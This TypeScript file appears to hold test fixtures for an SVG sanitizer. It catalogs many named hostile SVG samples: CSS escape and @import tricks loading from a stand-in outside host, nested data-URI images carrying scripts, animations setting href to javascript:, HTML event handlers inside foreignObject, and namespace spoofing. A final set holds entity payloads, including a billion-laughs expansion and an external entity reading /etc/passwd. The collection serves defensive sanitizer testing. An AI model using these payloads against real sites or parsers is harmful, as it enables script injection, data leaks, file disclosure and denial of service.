import { inData, OUTSIDE, PIXEL, RUN, script, svg, SVG, XHTML, XLINK } from './svg-parts';

const sheet = (text: string) => `<style>${text}</style><rect class="a" width="9" height="9"/>`;
const label = (html: string) =>
  `<foreignObject width="90" height="90"><div ${XHTML}>${html}</div></foreignObject>`;
const image = (address: string) => `<image width="9" height="9" href="${address}"/>`;
const background = (value: string) => sheet(`svg,.a{background:${value}}`);
const inPicture = (inside: string) => image(inData('image/svg+xml', svg(inside)));

/** Attacks by style sheets that load or run something. */
const SHEETS: Record<string, string> = {
  'an escaped function in a sheet': background(`\\75 rl(${OUTSIDE}/x.png)`),
  'an escaped function that breaks its text off': background(
    `\\75 rl("); }@import "${OUTSIDE}/x.css";`
  ),
  'an escaped function with a comment in it': sheet(
    `.a{fill:u\\72l(/**/"#);}svg{background:url(${OUTSIDE}/x.png)}.b{c:")}`
  ),
  'a namespace of an escaped function with a comment in it': sheet(
    `@namespace u\\72l(/**/"#);@import '${OUTSIDE}/x.css';.b{c:");`
  ),
  'an escaped function with a comment in a style': `<rect width="9" height="9" style='fill:u\\72l(/**/"#);background:url(${OUTSIDE}/x.png);x:")'/>`,
  'src() in a sheet': background(`src("${OUTSIDE}/x.png")`),
  'src() of a variable': sheet(`svg{--a:"${OUTSIDE}/x.png";background:src(var(--a))}`),
  'a set of images in a sheet': background(`image-set("${OUTSIDE}/x.png" 1x)`),
  'a set of images of a variable': sheet(
    `svg{--a:"${OUTSIDE}/x.png";background:image-set(var(--a) 1x)}`
  ),
  'a set of images with a prefix': background(`-webkit-image-set(url(${OUTSIDE}/x.png) 1x)`),
  'image() in a sheet': background(`image("${OUTSIDE}/x.png")`),
  'cross-fade() in a sheet': background(`cross-fade(url(${OUTSIDE}/x.png),url(#a),50%)`),
  'a variable that is an address': sheet(`svg{--a:url(${OUTSIDE}/x.png);background:var(--a)}`),
  'a variable with a block': sheet(
    `svg{--a:{background:url(${OUTSIDE}/x.png)};background:var(--a)}`
  ),
  'an address behind an unknown function': background(`load("${OUTSIDE}/x.png")`),
  'a registered variable': sheet(
    `@property --a{syntax:"&lt;image>";inherits:false;initial-value:url(${OUTSIDE}/x.png)}svg{background:var(--a)}`
  ),
  'an import inside a rule': sheet(`.a{@import "${OUTSIDE}/x.css";fill:red}`),
  'an import inside a layer': sheet(`@layer a{@import url(${OUTSIDE}/x.css);}`),
  'an import into a layer': sheet(`@import url(${OUTSIDE}/x.css) layer(a) supports(fill:red);`),
  'an import behind a bracket too much': sheet(`}@import url(${OUTSIDE}/x.css);`),
  'an import behind an open string': sheet(`.a{content:"\n}@import url(${OUTSIDE}/x.css);`),
  'an import in capitals': sheet(`@IMPORT url(${OUTSIDE}/x.css);`),
  'an address in a nested rule': sheet(`svg{&amp; .a,&amp;{background:url(${OUTSIDE}/x.png)}}`),
  'an address in a nested rule without a mark': sheet(`svg{.a{fill:url(${OUTSIDE}/x.svg#a)}}`),
  'an address inside @supports': sheet(
    `@supports (fill:red){svg{background:url(${OUTSIDE}/x.png)}}`
  ),
  'an address inside @container': sheet(
    `@container (min-width:0){svg{background:url(${OUTSIDE}/x.png)}}`
  ),
  'an address inside @media': sheet(`@media all{svg{background:url("${OUTSIDE}/x.png")}}`),
  'an address inside @keyframes': sheet(
    `@keyframes k{from,to{background:url(${OUTSIDE}/x.png)}}svg{animation:k 9s}`
  ),
  'an address inside @scope': sheet(`@scope (svg){:scope{background:url(${OUTSIDE}/x.png)}}`),
  'a style of counters elsewhere': sheet(
    `@counter-style c{system:cyclic;symbols:url(${OUTSIDE}/x.png)}svg{list-style:c}`
  ),
  'a document rule': sheet(`@document url(${OUTSIDE}/){.a{fill:red}}`),
  'a binding with escapes': sheet(`svg{-moz-bi\\6eding:url(${OUTSIDE}/x.xml#b)}`),
  'a behavior in a sheet': sheet(`svg{behavior:url(${OUTSIDE}/x.htc)}`),
  'an expression with a comment': sheet(`svg{width:expr/**/ession(${RUN})}`),
  'an expression with escapes': sheet(`svg{width:e\\78pression(${RUN})}`),
  'a tag in a string of a sheet': sheet(`.a{content:"&lt;/style>&lt;script>${RUN}&lt;/script>"}`),
  'a filter of old browsers': sheet(
    `.a{filter:progid:DXImageTransform.Microsoft.AlphaImageLoader(src="${OUTSIDE}/x.png")}`
  ),
  'an address in a presentation attribute with escapes': `<rect width="9" height="9" fill="u\\72l(${OUTSIDE}/x.svg#a)"/>`,
  'an address that begins with a fragment': `<rect width="9" height="9" fill="url(#a),url(${OUTSIDE}/x.svg#a)"/>`,
  'an address with line breaks': background(`url("ht\\\ntp://outside.test/x.png")`),
  'an address of a page in data': background(`url(${inData('text/html', script(RUN))})`),
  'a shape elsewhere': sheet(
    `.a{shape-outside:url(${OUTSIDE}/x.png);mask-image:url(${OUTSIDE}/x.png)}`
  ),
};

/** Attacks by fonts and images that are embedded in the SVG. */
const EMBEDDED: Record<string, string> = {
  'a font that is a page':
    sheet(
      `@font-face{font-family:a;src:url(${inData('font/woff2', script(RUN))})}text{font-family:a}`
    ) + '<text>x</text>',
  'a font that is a sheet':
    sheet(
      `@font-face{font-family:a;src:url(${inData('text/css', `@import "${OUTSIDE}/x.css"`)})}text{font-family:a}`
    ) + '<text>x</text>',
  'a font elsewhere behind one inside':
    sheet(
      `@font-face{font-family:a;src:url(${inData('font/woff', 'wOFF')}),url(${OUTSIDE}/x.woff)}text{font-family:a}`
    ) + '<text>x</text>',
  'an SVG as font':
    sheet(
      `@font-face{font-family:a;src:url(${inData('image/svg+xml', svg(script(RUN)))}#f) format("svg")}text{font-family:a}`
    ) + '<text>x</text>',
  'a script in a picture': inPicture(script(RUN)),
  'a script in a picture in a picture': inPicture(inPicture(script(RUN))),
  'a script in a picture in pictures': inPicture(inPicture(inPicture(script(RUN)))),
  'a picture elsewhere in a picture': inPicture(image(`${OUTSIDE}/x.png`)),
  'a sheet elsewhere in a picture': inPicture(`<style>@import "${OUTSIDE}/x.css"</style>`),
  'a script in a picture without base64': image(
    `data:image/svg+xml;charset=utf-8,${encodeURIComponent(svg(script(RUN)))}`
  ),
  'a page as picture': image(inData('text/html', script(RUN))),
  'a page that says it is a picture': image(inData('image/png', script(RUN))),
  'an SVG that says it is a picture': image(inData('image/png', svg(script(RUN)))),
  'an SVG of another XML type': image(inData('application/xml', svg(script(RUN)))),
  'a type in capitals': image(inData('IMAGE/SVG+XML', svg(script(RUN)))),
  'a picture with a second type': image(`data:image/png,image/svg+xml;base64,${PIXEL}`),
  'a filter picture that is an SVG': `<filter id="f"><feImage href="${inData('image/svg+xml', svg(script(RUN)))}"/></filter><rect width="9" height="9" filter="url(#f)"/>`,
  'an SVG as background': background(
    `url("${inData('image/svg+xml', svg(image(`${OUTSIDE}/x.png`)))}")`
  ),
  'a use of an address with a blank of another kind': `<use href="&#160;#outside"/>`,
  'an address with a blank of another kind': background('url(&#160;#outside)'),
  'a use of a picture': `<use href="${inData('image/svg+xml', svg(script(RUN), 'id="a"'))}#a"/>`,
};

const link = (animation: string) =>
  `<a ${XLINK} href="#a"><rect width="99" height="99"/>${animation}</a>`;

/** Attacks by animations that change an attribute which must not change. */
const ANIMATIONS: Record<string, string> = {
  'href set': link(`<set attributeName="href" to="javascript:${RUN}"/>`),
  'href of XLink set': link(`<set attributeName="xlink:href" to="javascript:${RUN}"/>`),
  'href under another prefix set': link(
    `<set xmlns:y="http://www.w3.org/1999/xlink" attributeName="y:href" to="javascript:${RUN}"/>`
  ),
  'href with blanks set': link(`<set attributeName=" href " to="javascript:${RUN}"/>`),
  'href in capitals set': link(`<set attributeName="HREF" to="javascript:${RUN}"/>`),
  'href among values': link(
    `<animate attributeName="href" values="#a;javascript:${RUN}" dur="1s"/>`
  ),
  'href from and by': link(
    `<animate attributeName="href" from="javascript:${RUN}" by="#a" dur="1s"/>`
  ),
  'href of a picture set': `<image id="i" width="9" height="9"/><set href="#i" attributeName="href" to="${OUTSIDE}/x.png"/>`,
  'a handler animated': `<rect width="99" height="99"><animate attributeName="onclick" values="${RUN}" dur="9s"/></rect>`,
  'a style set': `<rect width="9" height="9"><set attributeName="style" to="background:url(${OUTSIDE}/x.png)"/></rect>`,
  'a fill set elsewhere': `<rect width="9" height="9"><set attributeName="fill" to="url(${OUTSIDE}/x.svg#a)"/></rect>`,
  'a filter among values': `<rect width="9" height="9"><animate attributeName="filter" values="none;url(${OUTSIDE}/x.svg#f)" dur="1s"/></rect>`,
  'a mask from and to': `<rect width="9" height="9"><animate attributeName="mask" from="url(${OUTSIDE}/x.svg#m)" to="url('${OUTSIDE}/x.svg#n')" dur="1s"/></rect>`,
  'a cursor set': `<rect width="99" height="99"><set attributeName="cursor" to="url(${OUTSIDE}/x.cur),auto"/></rect>`,
  'a handler of an animation': `<rect width="9" height="9"><animate attributeName="x" dur="1ms" to="9" onbegin="${RUN}" onend="${RUN}"/></rect>`,
  'a name of an attribute with a prefix': `<g xmlns:s="http://www.w3.org/2000/svg"><s:set s:attributeName="onload" attributeName="onload" to="${RUN}"/></g>`,
};

/** Attacks by HTML inside an SVG. */
const LABELS: Record<string, string> = {
  'a form in a label': label(
    `<form action="${OUTSIDE}/"><input autofocus="" onfocus="${RUN}"/><button formaction="${OUTSIDE}/">x</button></form>`
  ),
  'a frame in a label': label(`<iframe src="${OUTSIDE}/"></iframe>`),
  'a frame of a document in a label': label(
    `<iframe srcdoc="&lt;script>parent.ran=1&lt;/script>"></iframe>`
  ),
  'a refresh in a label': label(`<meta http-equiv="refresh" content="0;url=${OUTSIDE}/"/>`),
  'a link in a label': label(`<a href="javascript:${RUN}" style="position:fixed;inset:0">x</a>`),
  'a sheet in a label': label(
    `<style>@import url(${OUTSIDE}/x.css);div{background:url(${OUTSIDE}/x.png)}</style>`
  ),
  'a sheet elsewhere in a label': label(`<link rel="stylesheet" href="${OUTSIDE}/x.css"/>`),
  'a picture in a label': label(`<img src="${OUTSIDE}/x.png" onerror="${RUN}"/>`),
  'a set of pictures in a label': label(
    `<img srcset="${OUTSIDE}/x.png 1x"/><picture><source srcset="${OUTSIDE}/x.png"/><img/></picture>`
  ),
  'a background in a label': label(
    `<div style="background:url(${OUTSIDE}/x.png);height:9px">x</div>`
  ),
  'a background attribute in a label': label(
    `<table background="${OUTSIDE}/x.png"><tr><td background="${OUTSIDE}/x.png">x</td></tr></table>`
  ),
  'a citation in a label': label(`<blockquote cite="${OUTSIDE}/">x</blockquote>`),
  'a handler in a label': label(`<span onclick="${RUN}" style="position:fixed;inset:0">x</span>`),
  'a toggle in a label': label(`<details open="" ontoggle="${RUN}">x</details>`),
  'an object in a label': label(
    `<object data="${OUTSIDE}/x.svg"></object><embed src="${OUTSIDE}/x.svg"/>`
  ),
  'a script in an SVG in a label': label(`<svg ${SVG}>${script(RUN)}<g onload="${RUN}"/></svg>`),
  'a label with a prefix': `<foreignObject xmlns:h="http://www.w3.org/1999/xhtml" width="9" height="9"><h:div><h:script>${RUN}</h:script><h:img src="x" onerror="${RUN}"/></h:div></foreignObject>`,
  'a body in a label': `<foreignObject width="9" height="9"><body ${XHTML} onload="${RUN}" background="${OUTSIDE}/x.png">x</body></foreignObject>`,
  'markup that changes in a page': label(
    `<p><svg ${SVG}><style><![CDATA[</style><img src=x onerror=${RUN}>]]></style></svg></p>`
  ),
  'MathML in a label': label(
    `<math xmlns="http://www.w3.org/1998/Math/MathML"><mtext><mglyph><style>&lt;img src=x onerror=${RUN}></style></mglyph></mtext></math>`
  ),
  'HTML without its object': `<g><div ${XHTML} onclick="${RUN}">x</div></g>`,
  'a custom element': label(`<x-a onclick="${RUN}">x</x-a><p is="x-b">x</p>`),
  'a film in a label': label(
    `<video poster="${OUTSIDE}/x.png" src="${OUTSIDE}/x.mp4"></video><audio src="${OUTSIDE}/x.mp3"/>`
  ),
};

/** Attacks by names in unusual spellings and namespaces. */
const NAMES: Record<string, string> = {
  'a script with the prefix svg': `<svg:script xmlns:svg="http://www.w3.org/2000/svg">${RUN}</svg:script>`,
  'a script in a prefixed group': `<s:g xmlns:s="http://www.w3.org/2000/svg"><s:script>${RUN}</s:script><s:rect onload="${RUN}" width="9" height="9"/></s:g>`,
  'a prefixed sheet': `<s:style xmlns:s="http://www.w3.org/2000/svg">@import "${OUTSIDE}/x.css";</s:style>`,
  'a prefixed frame': `<h:iframe xmlns:h="http://www.w3.org/1999/xhtml" src="${OUTSIDE}/"/>`,
  'XLink under another prefix': `<image xmlns:y="http://www.w3.org/1999/xlink" width="9" height="9" y:href="${OUTSIDE}/x.png"/>`,
  'use under another prefix': `<use xmlns:y="http://www.w3.org/1999/xlink" y:href="${OUTSIDE}/x.svg#a"/>`,
  'a base under the prefix of XML': `<g xml:base="${OUTSIDE}/"><use href="#a"/></g>`,
  'a script inside an unknown element': `<flowRoot><flowRegion>${script(RUN)}<rect width="9" height="9" onload="${RUN}"/></flowRegion></flowRoot>`,
  'a script inside an element of nobody': `<x:g xmlns:x="http://example.org/x">${script(RUN)}</x:g>`,
  'a script in a comment that ends early': `<!-- --><script>${RUN}</script><!-- -->`,
  'an instruction inside': `<?xml-stylesheet href="${OUTSIDE}/x.css"?><?php ${RUN} ?>`,
  'an attribute for several targets': `<a href="#a" target="_top" ping="${OUTSIDE}/"><rect width="99" height="99"/></a>`,
};

export const NEW_INSIDES: Record<string, string> = {
  ...SHEETS,
  ...EMBEDDED,
  ...ANIMATIONS,
  ...LABELS,
  ...NAMES,
};

const withEntities = (subset: string, inside: string) => `<!DOCTYPE svg [${subset}]>${svg(inside)}`;

/** Attacks by documents whose entities expand to forbidden content. */
export const NEW_DOCUMENTS: Record<string, string> = {
  'an entity that is a script': withEntities(`<!ENTITY a "${script(RUN)}">`, '&a;'),
  'a script in parts': withEntities(
    `<!ENTITY a "&#60;scr"><!ENTITY b "ipt>${RUN}&#60;/script>">`,
    '&a;&b;'
  ),
  'a script of entities of entities': withEntities(
    `<!ENTITY c "${RUN}"><!ENTITY b "&#60;script>&c;&#60;/script>"><!ENTITY a "<g>&b;</g>">`,
    '&a;'
  ),
  'a handler in an entity': withEntities(
    `<!ENTITY a "<rect width='9' height='9' onload='${RUN}'/>">`,
    '&a;'
  ),
  'an address in entities': withEntities(
    `<!ENTITY a "outside.test"><!ENTITY b "http://&a;/x.png">`,
    image('&b;')
  ),
  'an import in an entity': withEntities(
    `<!ENTITY a "@import '${OUTSIDE}/x.css';">`,
    '<style>&a;</style>'
  ),
  'an entity that ends its attribute': withEntities(
    `<!ENTITY a '" onload="window.ran=2'>`,
    '<rect width="9" height="9" id="&a;"/>'
  ),
  'a prefixed root with a script': `<s:svg xmlns:s="http://www.w3.org/2000/svg" width="100" height="100" onload="${RUN}"><s:script>${RUN}</s:script><s:circle r="5"/></s:svg>`,
};

const laughs = Array.from({ length: 14 }, (_, level) =>
  level === 0 ? '<!ENTITY l0 "ha">' : `<!ENTITY l${level} "${`&l${level - 1};`.repeat(10)}">`
).join('');

export const NEW_HOPELESS: ReadonlyArray<[string, string]> = [
  ['a billion laughs', withEntities(laughs, '<text>&l13;</text>')],
  ['an entity that holds itself', withEntities('<!ENTITY a "x&a;">', '<text>&a;</text>')],
  [
    'entities that hold each other',
    withEntities('<!ENTITY a "&b;"><!ENTITY b "<g>&a;</g>">', '&a;'),
  ],
  [
    'a large entity many times',
    withEntities(`<!ENTITY a "${'x'.repeat(10_000)}">`, '&a;'.repeat(1000)),
  ],
  [
    'elements that entities build',
    withEntities(`<!ENTITY a "${'<g/>'.repeat(300)}">`, '&a;'.repeat(100)),
  ],
  [
    'an external entity in an entity',
    withEntities('<!ENTITY b SYSTEM "file:///etc/passwd"><!ENTITY a "&b;">', '<text>&a;</text>'),
  ],
  [
    'too many elements of drawings inside',
    svg(image(inData('image/svg+xml', svg('<g/>'.repeat(15_000)))).repeat(2)),
  ],
];
